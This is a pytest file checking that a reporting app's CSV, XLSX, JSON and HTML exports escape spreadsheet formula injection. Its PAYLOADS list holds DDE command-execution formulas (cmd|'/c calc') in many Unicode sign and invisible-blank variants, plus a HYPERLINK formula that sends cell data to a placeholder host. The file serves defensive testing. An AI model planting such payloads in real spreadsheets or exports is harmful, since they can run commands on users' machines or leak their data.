"""No cell of any file computes when a spreadsheet opens it."""

import csv
import dataclasses
import io
import json
import unicodedata
from collections.abc import Callable

import openpyxl
import pytest

from compliance.csv_text import csv_line, is_blank, safe_cell
from reports.exports import catalogue, r07
from reports.exports.outputs import OUTPUTS
from reports.models import Filing

SIGNS = [
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
    "⁼",
    "⁺",
    "\u2212",
]
BLANKS = [
    " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\u200d", "\ufeff", "\u3000", "\u2060", "\u00ad",
    "\u3164", "\u2800", "\ufe0f", "\x0b",
]  # fmt: skip
FORMULA = "cmd|'/c calc'!A0"
PAYLOADS = [
    *(f"{sign}{FORMULA}" for sign in SIGNS),
    *(f"{blank}={FORMULA}" for blank in BLANKS),
    *(f"{blank}＠SUM(1+1)" for blank in BLANKS),
    *(f"{first}{second}+1" for first in (" ", "\u200b") for second in ("\ufeff", "\u00a0")),
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点\")",
    '";=1+1;"',
    '"\r\n=1+1',
    "\t",
    "\r",
    "-2+3",
    "@SUM(A1:A9)",
]  # fmt: skip


def visible(cell: str) -> str:
    shown = "".join(cell)
    while shown and (is_blank(shown[0]) or shown[0].isspace()):
        shown = shown[1:]
    return shown


def computes(cell: str) -> bool:
    first = visible(cell)[:1]
    return cell[:1] in ("\t", "\r", "\n", "\x00") or bool(
        first and unicodedata.normalize("NFKC", first)[0] in "=+-@|%\u2212"
    )


def test_there_are_at_least_sixty_payloads_and_each_would_compute() -> None:
    assert len(set(PAYLOADS)) >= 60
    assert [text for text in PAYLOADS if not computes(text)] == ['";=1+1;"', '"\r\n=1+1']


@pytest.mark.parametrize("payload", [*PAYLOADS, "\x00=1+1"])
def test_a_csv_cell_never_computes_and_keeps_its_text(payload: str) -> None:
    line = csv_line([payload, "账号"])

    [(cell, other)] = csv.reader(io.StringIO(line, newline=""))
    assert not computes(cell)
    assert cell.removeprefix("'") == payload
    assert other == "账号"


@pytest.mark.parametrize("text", ["", "账号", "u-1", "2026-10-03", "a=b", "'引号", "《规定》", "0"])
def test_a_harmless_cell_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.fixture
def filing_of_payloads(prepare: Callable[..., Filing], monkeypatch: pytest.MonkeyPatch) -> Filing:
    """A filing in which every payload stands in every column."""
    form = dataclasses.replace(
        r07.R07,
        rows_sql="SELECT unnest(%(payloads)s::text[])",
        counts_sql=f"SELECT 'decisions', 'total', {len(PAYLOADS)}",
        parameters={"payloads": PAYLOADS},
        render=lambda row: tuple(row) * len(r07.COLUMNS),
        tallies=lambda cells: [("decisions", "total")],
    )
    monkeypatch.setitem(catalogue.FORMS, "R07", form)
    return prepare()


@pytest.mark.django_db(transaction=True)
def test_every_payload_in_every_column_stays_text_in_every_file(
    filing_of_payloads: Filing,
) -> None:
    files = {name: b"".join(make(filing_of_payloads)) for name, make in OUTPUTS.items()}

    lines = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"), newline="")))
    assert len(lines) == len(PAYLOADS) + 1
    assert [cell for line in lines for cell in line if computes(cell)] == []
    sheet = openpyxl.load_workbook(io.BytesIO(files["xlsx"])).active
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert len(cells) == len(PAYLOADS) * len(r07.COLUMNS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.hyperlink for cell in cells} == {None}
    rows = json.loads(files["json"])["rows"]
    assert [row["account_name"] for row in rows] == PAYLOADS
    assert b"<script" not in files["html"]
    assert files["html"].count(b"<tr>") == len(PAYLOADS) + 1
